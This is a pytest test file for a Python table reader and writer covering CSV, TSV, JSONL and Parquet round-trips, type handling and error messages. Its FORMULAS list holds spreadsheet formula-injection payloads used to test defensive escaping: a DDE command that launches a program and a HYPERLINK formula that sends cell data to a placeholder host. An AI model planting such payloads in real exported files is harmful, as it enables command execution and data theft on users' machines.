"""Tables there and back: what no run touched is as it was, and what cannot be read is refused in a sentence."""

import csv
import gzip
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dfllm._tables import KINDS, Format, Table, TableError, check_fits, format_of, read, write

CSV, TSV, JSONL, PARQUET = map(Format, KINDS)
MADE = ["answer", "answer_error"]


def written(table: Table, form: Format, frame: pd.DataFrame | None = None, made: list[str] | None = None) -> bytes:
    """Return the bytes of a table, by default without any new column."""
    stream = io.BytesIO()
    write(stream, form, table, table.frame if frame is None else frame, made or [])
    return stream.getvalue()


def answered(table: Table) -> pd.DataFrame:
    """Return the frame as a run leaves it: every second row has an answer, the others an error."""
    texts = [None if place % 2 else f"a{place}" for place in range(len(table.frame))]
    errors = [f"Refused: {place}" if place % 2 else None for place in range(len(table.frame))]
    made = {name: pd.Series(cells, dtype="str") for name, cells in zip(MADE, (texts, errors), strict=True)}
    return table.frame.assign(**made)


def parquet(table: pa.Table) -> bytes:
    """Return the table as a Parquet file."""
    stream = io.BytesIO()
    pq.write_table(table, stream)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("place", "kind", "form"),
    [
        ("a.csv", None, CSV),
        ("a.TSV", None, TSV),
        ("a.b.ndjson", None, JSONL),
        ("dir.csv/a.jsonl.gz", None, Format("jsonl", packed=True)),
        ("a.parquet", None, PARQUET),
        ("-", None, CSV),
        ("-", "parquet", PARQUET),
        ("a.txt", "tsv", TSV),
        ("a.txt.gz", "csv", Format("csv", packed=True)),
    ],
)
def test_format_is_the_suffix_or_what_is_said(place, kind, form):
    """A suffix names the format, a word overrules it, and a dash is CSV."""
    found = format_of(place, kind)

    assert form == found


@pytest.mark.parametrize("place", ["a.txt", "a", "a.parquet.gz", "a.gz", "csv"])
def test_unknown_suffix_is_refused(place):
    """A name without a format says which there are."""
    with pytest.raises(TableError, match=r"\.csv, \.tsv, \.jsonl, \.parquet, \.ndjson"):
        format_of(place)


HARD_CSV = (
    'id,"a ""name""",note,zip\n'
    '1,=1+1,"two\nlines",01234\n'
    '2,"say ""hi"", then go",carriage\tand tab,5\n'
    '3,"\r",Ünïcødé 🎈,NA\n'
    '4, spaces ,"crlf\r\nhere",null\n'
    "5,,nan,\n"
)


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_csv_comes_back_byte_for_byte(delimiter):
    """Quotes, line ends within cells, formulas, leading noughts and words that look like nothing stay as they are."""
    form = CSV if delimiter == "," else TSV
    rows = [["a", "b"], ["01", '=1,"\t\r'], ["x\ny", "Ü"]]
    text = HARD_CSV if delimiter == "," else written(Table(pd.DataFrame(rows[1:], columns=rows[0])), TSV).decode()

    back = written(read(io.BytesIO(text.encode()), form), form)

    assert text == back.decode()


def test_csv_cells_are_what_is_written():
    """A word is a word: only the empty cell is missing."""
    frame = read(io.BytesIO(HARD_CSV.encode()), CSV).frame

    assert ["id", 'a "name"', "note", "zip"] == frame.columns.tolist()
    assert ["two\nlines", "carriage\tand tab", "Ünïcødé 🎈", "crlf\r\nhere", "nan"] == frame["note"].tolist()
    assert ["01234", "5", "NA", "null"] == frame["zip"].dropna().tolist()
    assert [False, False, False, False, True] == frame['a "name"'].isna().tolist()


@pytest.mark.parametrize(
    ("cells", "dtype"),
    [
        (["1", "-20", "0"], "Int64"),
        (["1", "", "999999999999999999"], "Int64"),
        (["1.5", "-0.25", "100.0"], "float64"),
        (["True", "False", ""], "boolean"),
        (["01", "2"], "str"),
        (["+1", "2"], "str"),
        (["-0", "2"], "str"),
        (["1.50", "2.5"], "str"),
        (["1", "2.5"], "str"),
        (["1e5", "2e5"], "str"),
        (["9999999999999999999999", "1"], "str"),
        (["0.1000000000000000055", "0.5"], "str"),
        (["true", "false"], "str"),
        (["nan", "inf"], "str"),
        (["", ""], "str"),
        (["1\n", "2"], "str"),
    ],
)
def test_csv_column_is_numbers_only_where_no_cell_changes(cells, dtype):
    """Numbers are for templates that calculate; a cell that would be printed otherwise keeps its column text."""
    table = read(io.BytesIO(written(Table(pd.DataFrame({"a": cells, "b": "x"})), CSV)), CSV)
    expected = pd.Series([], dtype=dtype).dtype

    again = read(io.BytesIO(written(table, CSV)), CSV).frame["a"]

    assert expected == table.frame["a"].dtype
    assert [cell or None for cell in cells] == [None if pd.isna(cell) else str(cell) for cell in again.tolist()]


CELLS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)


@given(st.lists(st.tuples(CELLS, CELLS), max_size=8), st.sampled_from([CSV, TSV, Format("csv", packed=True)]))
def test_any_text_survives_csv(rows, form):
    """Whatever is in a cell comes out of the file again, and empty text as missing."""
    table = Table(pd.DataFrame(rows, columns=["a", "b"], dtype=object))

    frame = read(io.BytesIO(written(table, form)), form).frame

    there = [tuple(None if pd.isna(cell) else str(cell) for cell in row) for row in frame.itertuples(index=False)]
    assert [tuple(cell or None for cell in row) for row in rows] == there


FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1+1",
        "\uff20A1",
    ),
    *("=cmd|'/C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "- a list", "+49 30 1234", '=1";=2', "--1"),
]
HARMLESS = ["-5", "+5", "-1.5", "-1e-9", "1-2", "'=1", " =1", "a=b", "x@y.z", "", "[-1]", "ü"]


def bare(table: Table, form: Format, frame: pd.DataFrame, **how: bool) -> list[list[str]]:
    """Return the cells that a spreadsheet reads from the table as it is written, every column a new one."""
    stream = io.BytesIO()
    write(stream, form, table, frame, list(frame.columns), **how)
    text = stream.getvalue().decode()
    return list(csv.reader(io.StringIO(text, newline=""), delimiter="," if form == CSV else "\t"))


@pytest.mark.parametrize("form", [CSV, TSV])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(form, text):
    """Text that a spreadsheet would run gets a mark in front, in a column's name too, and nothing else is changed."""
    table = Table(pd.DataFrame({text: [text]}))

    assert [[f"'{text}"], [f"'{text}"]] == bare(table, form, table.frame)
    assert [[text], [text]] == bare(table, form, table.frame, raw=True)


@pytest.mark.parametrize("text", HARMLESS)
def test_text_that_is_no_formula_stays(text):
    """Numbers are numbers, also where they are written as text."""
    table = Table(pd.DataFrame({"a": [text]}))

    assert [["a"], [text]] == bare(table, CSV, table.frame)


def test_numbers_and_nested_values_stay():
    """Only text can be a formula."""
    frame = pd.DataFrame({"a": [-1, 2], "b": [-1.5, None], "c": [["=1"], {"-": 1}]})

    assert [["a", "b", "c"], ["-1", "-1.5", '["=1"]'], ["2", "", '{"-":1}']] == bare(Table(frame), CSV, frame)


@pytest.mark.parametrize(("source", "first"), [(CSV, "=1"), (JSONL, "'=1"), (PARQUET, "'=1")])
def test_cells_of_a_csv_stay_and_those_of_other_tables_are_guarded(source, first):
    """A file that was CSV gets no new danger in its own cells, and must be the same when it is written again."""
    table = read(io.BytesIO(written(Table(pd.DataFrame({"own": ["=1"]})), source)), source)
    frame = table.frame.assign(made=pd.Series(["=2"], dtype="str"))

    there = written(table, CSV, frame, ["made"]).decode()

    assert f"own,made\n{first},'=2\n" == there


@pytest.mark.parametrize("form", [JSONL, PARQUET])
def test_formulas_stay_in_formats_that_no_spreadsheet_runs(form):
    """JSON and Parquet hold what the model said, byte for byte."""
    table = Table(pd.DataFrame({"a": FORMULAS}))

    frame = read(io.BytesIO(written(table, form, table.frame, ["a"])), form).frame

    assert FORMULAS == frame["a"].tolist()


def test_single_empty_cell_is_still_a_row():
    """A blank line is no row, so one empty cell is written with quotes."""
    text = b'a\nx\n""\ny\n'

    table = read(io.BytesIO(text + b"\n\n"), CSV)

    assert 3 == len(table.frame)
    assert text == written(table, CSV)


def test_long_cells_are_read_and_the_module_is_left_alone():
    """A document of a megabyte is a cell like any other; the csv module's own limit is as it was."""
    import csv

    before = csv.field_size_limit()

    frame = read(io.BytesIO(b"a\n" + b"x" * 1_000_000 + b"\n"), CSV).frame

    assert 1_000_000 == len(frame["a"].iloc[0])
    assert before == csv.field_size_limit()


def test_windows_are_put_together():
    """A table longer than a window is whole and in order, in every format."""
    rows = 25_001
    table = read(io.BytesIO(b"a,b\n" + b"".join(b"%d,x%d\n" % (n, n) for n in range(rows))), CSV)

    back = [read(io.BytesIO(written(table, form)), form).frame for form in (CSV, JSONL, PARQUET)]

    for frame in back:
        assert list(range(rows)) == frame["a"].tolist()
        assert f"x{rows - 1}" == frame["b"].iloc[-1]


def test_byte_order_mark_is_no_part_of_a_name():
    """Files that Excel has saved begin with a mark that nobody sees."""
    frames = [
        read(io.BytesIO(b"\xef\xbb\xbfa\n1\n"), CSV).frame,
        read(io.BytesIO(b'\xef\xbb\xbf{"a":1}\n'), JSONL).frame,
    ]

    assert [["a"], ["a"]] == [frame.columns.tolist() for frame in frames]


HARD_JSONL = (
    '{"id":1,"tags":["a",null,{"deep":[1.0,2]}],"big":123456789012345678901234567890}\n'
    '{"id":null,"text":"two\\nlines \\u001b 🎈","flag":true}\n'
    '{"id":2.5,"tags":{},"id2":"7"}\n'
    "{}\n"
)


def test_jsonl_comes_back_as_it_was():
    """Nested values stay nested, whole numbers whole, null is null, and what a row left out it still leaves out."""
    table = read(io.BytesIO(HARD_JSONL.encode()), JSONL)

    back = written(table, JSONL)

    assert HARD_JSONL == back.decode()


def test_jsonl_gets_a_run_s_columns():
    """The new columns stand behind each row's own, null where a row has none, and replace those of an earlier run."""
    table = read(io.BytesIO(b'{"a":[1]}\n\n{"answer":"old","b":2}\n'), JSONL)

    lines = written(table, JSONL, answered(table), MADE).splitlines()

    assert {"a": [1], "answer": "a0", "answer_error": None} == json.loads(lines[0])
    assert {"answer": None, "b": 2, "answer_error": "Refused: 1"} == json.loads(lines[1])


def test_jsonl_cells_are_python_s_own():
    """A template sees the row's own lists, mappings, numbers and truth."""
    frame = read(io.BytesIO(HARD_JSONL.encode()), JSONL).frame

    assert [1, None, 2.5, None] == frame["id"].tolist()
    assert ["a", None, {"deep": [1.0, 2]}] == frame["tags"].iloc[0]
    assert "text" in frame.columns


def test_lone_surrogate_is_written_all_the_same():
    """JSON may escape half a character; JSONL escapes it again, CSV writes U+FFFD."""
    table = read(io.BytesIO(b'{"a":"\\ud83d"}\n'), JSONL)

    jsonl, csv = written(table, JSONL), written(table, CSV)

    assert b'{"a": "\\ud83d"}\n' == jsonl
    assert "a\n\N{REPLACEMENT CHARACTER}\n" == csv.decode()


def test_numbers_that_are_no_json_become_null():
    """Python writes NaN and Infinity into JSON, nobody else reads them."""
    table = read(io.BytesIO(b'{"a":NaN,"b":[-Infinity]}\n'), JSONL)

    assert b'{"a":null,"b":[null]}\n' == written(table, JSONL)


ARROW = pa.table(
    {
        "whole": pa.array([1, None, 3], pa.int64()),
        "small": pa.array([1, 2, None], pa.uint8()),
        "real": pa.array([1.5, None, float("inf")], pa.float32()),
        "truth": pa.array([True, None, False]),
        "text": pa.array(["a", None, "Ü"]),
        "word": pa.array(["x", "y", "x"]).dictionary_encode(),
        "day": pa.array([date(2024, 1, 1), None, date(9999, 1, 1)]),
        "moment": pa.array([datetime(2024, 1, 1, 12, tzinfo=UTC)] * 3, pa.timestamp("us", "UTC")),
        "money": pa.array([Decimal("1.50"), None, Decimal("2.00")], pa.decimal128(10, 2)),
        "list": pa.array([[1, None], [], None], pa.list_(pa.int32())),
        "struct": pa.array([{"n": 1, "s": None}, None, {"n": None, "s": "x"}]),
    }
)


def test_parquet_keeps_types_and_values():
    """Every column of the file is in the output with the type it had; the new ones are text."""
    table = read(io.BytesIO(parquet(ARROW)), PARQUET)

    back = pq.read_table(io.BytesIO(written(table, PARQUET, answered(table), MADE)))

    assert ARROW.schema.names + MADE == back.schema.names
    assert ARROW.equals(back.select(ARROW.schema.names))
    assert [["a0", None, "a2"], [None, "Refused: 1", None]] == [back[name].to_pylist() for name in MADE]


def test_parquet_cells_fit_a_prompt():
    """A whole number beside a missing one stays whole, and nested values are lists and mappings."""
    frame = read(io.BytesIO(parquet(ARROW)), PARQUET).frame

    assert "1" == str(frame["whole"].iloc[0])
    assert "Int64" == frame["whole"].dtype
    assert [1, None] == frame["list"].iloc[0]
    assert {"n": 1, "s": None} == frame["struct"].iloc[0]


def test_parquet_of_pandas_keeps_its_index_and_dtypes():
    """What pandas noted in the file is kept, so that pandas reads the frame it wrote, and two columns more."""
    frame = pd.DataFrame(
        {"n": pd.Series([1, None], dtype="Int64"), "c": pd.Categorical(["a", "b"])}, index=pd.Index([7, 7], name=None)
    )
    stream = io.BytesIO()
    frame.to_parquet(stream)
    table = read(io.BytesIO(stream.getvalue()), PARQUET)

    back = pd.read_parquet(io.BytesIO(written(table, PARQUET, answered(table), MADE)))

    pd.testing.assert_frame_equal(frame, back[["n", "c"]])
    assert ["n", "c"] == table.frame.columns.tolist()
    assert ["n", "c", *MADE] == back.columns.tolist()


def test_named_index_of_parquet_is_a_column():
    """An index with a name is the user's own: templates see it, and it is still the index afterwards."""
    stream = io.BytesIO()
    pd.DataFrame({"n": [1, 2]}, index=pd.Index(["x", "y"], name="id")).to_parquet(stream)

    table = read(io.BytesIO(stream.getvalue()), PARQUET)
    back = pd.read_parquet(io.BytesIO(written(table, PARQUET, answered(table), MADE)))

    assert ["n", "id"] == table.frame.columns.tolist()
    assert ["x", "y"] == back.index.tolist()


@pytest.mark.parametrize("noted", [False, True])
def test_columns_of_an_earlier_run_are_replaced_in_parquet(noted):
    """A second run writes its columns where the first one's are, even of another type."""
    made = pa.table({"answer": [1, 2], "answer_error": ["old", None], "z": [1, 2]})
    whole = pa.Table.from_pandas(made.to_pandas()) if noted else made
    table = read(io.BytesIO(parquet(whole)), PARQUET)

    back = pd.read_parquet(io.BytesIO(written(table, PARQUET, answered(table), MADE)))

    assert [*MADE, "z"] == back.columns.tolist()
    assert ["a0", None] == [None if pd.isna(cell) else cell for cell in back["answer"].tolist()]


def test_nullable_numbers_made_by_a_run_stay_whole_in_parquet():
    """Columns of a schema's fields come back to pandas with the dtypes they were given."""
    table = read(io.BytesIO(parquet(pa.table({"a": ["x", "y"]}))), PARQUET)
    frame = table.frame.assign(n=pd.Series([1, None], dtype="Int64"))

    back = pd.read_parquet(io.BytesIO(written(table, PARQUET, frame, ["n"])))

    assert "Int64" == back["n"].dtype


@pytest.mark.parametrize(("form", "first"), [(CSV, "1,1,1.5,True,a,x,2024-01-01,"), (JSONL, '{"whole":1,"small":1,')])
def test_parquet_becomes_text(form, first):
    """Other formats get what fits them: ISO dates, plain numbers, nested values as JSON."""
    table = read(io.BytesIO(parquet(ARROW)), PARQUET)

    lines = written(table, form).decode().splitlines()

    assert first == (lines[1] if form == CSV else lines[0])[: len(first)]
    if form == CSV:
        assert '2024-01-01 12:00:00+00:00,1.50,"[1,null]","{""n"":1,""s"":null}"' == lines[1][len(first) :]
    else:
        assert {"n": None, "s": "x"} == json.loads(lines[2])["struct"]
        assert json.loads(lines[2])["real"] is None


def test_packed_output_is_the_same_twice():
    """A gzipped table holds no time and no name."""
    table = Table(pd.DataFrame({"a": ["x"]}))

    packed = written(table, Format("csv", packed=True))

    assert packed == written(table, Format("csv", packed=True))
    assert b"a\nx\n" == gzip.decompress(packed)


@pytest.mark.parametrize(
    ("text", "form", "said"),
    [
        (b"", CSV, "it is empty; its first line should name the columns"),
        (b"a,b\n1,2\n3\n", CSV, "the row that ends on line 3 has 1 cells, the header 2"),
        (b'a,b\n1,"2\n\n"\n3,4,5\n', CSV, "the row that ends on line 5 has 3 cells, the header 2"),
        (b'a,b\n1,"2', CSV, "line 2: unexpected end of data"),
        (b'a,b\n1,"2"x\n', CSV, "line 2: ',' expected after '\"'"),
        (b"a,b,a\n", CSV, "two columns are called 'a'; rename one"),
        (b"a\n\xe9\n", CSV, "it is no UTF-8 text (byte 0xe9); save it as UTF-8"),
        (b'{"a":1}\n{"a":\n', JSONL, "line 2 is no JSON: Expecting value at character 7"),
        (b"[1]\n", JSONL, "line 1 is no object; each line should be one, such as {'a': 1}"),
        (b"null\n", JSONL, "line 1 is no object; each line should be one, such as {'a': 1}"),
        (b'{"a":"\xe9"}\n', JSONL, "it is no UTF-8 text (byte 0xe9); save it as UTF-8"),
        (b"[" * 100_000, JSONL, "line 1 is nested too deeply"),
        (b"a\n1\n", Format("csv", packed=True), "it is not whole or no gzip: Not a gzipped file (b'a\\n')"),
        (
            gzip.compress(b"a\n1\n", mtime=0)[:-9],
            Format("csv", packed=True),
            "it is not whole or no gzip: Compressed file",
        ),
        (b"junk", PARQUET, "it is no Parquet that can be read: "),
        (b"", PARQUET, "it is no Parquet that can be read: "),
        (parquet(ARROW)[:-20], PARQUET, "it is no Parquet that can be read: "),
    ],
)
def test_bad_files_say_what_is_wrong(text, form, said):
    """A file that is not what it should be is refused in one sentence that says where."""
    with pytest.raises(TableError) as raised:
        read(io.BytesIO(text), form)

    assert said == str(raised.value)[: len(said)]
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (b'{"a":1}\n{"a":"x"}\n', "column a"),
        (b'{"a":{}}\n', "'a'"),
        (b'{"a":"\\ud83d"}\n', "surrogates"),
        (b'{"a":123456789012345678901234567890}\n', "large"),
    ],
)
def test_what_parquet_cannot_hold_is_refused_before(text, said):
    """JSON holds more than Parquet does; that is found before anything is paid for."""
    table = read(io.BytesIO(text), JSONL)

    check_fits(table, JSONL)
    check_fits(table, CSV)
    with pytest.raises(TableError, match=r"Parquet cannot hold this table: .*Write JSONL") as raised:
        check_fits(table, PARQUET)

    assert said in str(raised.value)


@pytest.mark.parametrize("form", [CSV, JSONL], ids=lambda form: form.kind)
def test_bytes_are_for_parquet_only(form):
    """Bytes have no text, so no text format takes them."""
    table = read(io.BytesIO(parquet(pa.table({"a": ["x", "y"], "raw": [None, b"\x00"]}))), PARQUET)

    check_fits(table, PARQUET)
    with pytest.raises(TableError, match="Column 'raw' holds bytes"):
        check_fits(table, form)


@pytest.mark.parametrize("form", [CSV, TSV, PARQUET, Format("csv", packed=True)], ids=str)
def test_no_rows_are_no_trouble(form):
    """A header alone is a table, and so it is written."""
    table = read(io.BytesIO(b"a,b\n"), CSV)

    back = read(io.BytesIO(written(table, form)), form).frame

    assert (["a", "b"], 0) == (back.columns.tolist(), len(back))


def test_any_stream_will_do():
    """Parquet needs to seek; what cannot, such as a pipe, is read whole first."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

    frame = read(Pipe(parquet(ARROW)), PARQUET).frame

    assert 3 == len(frame)
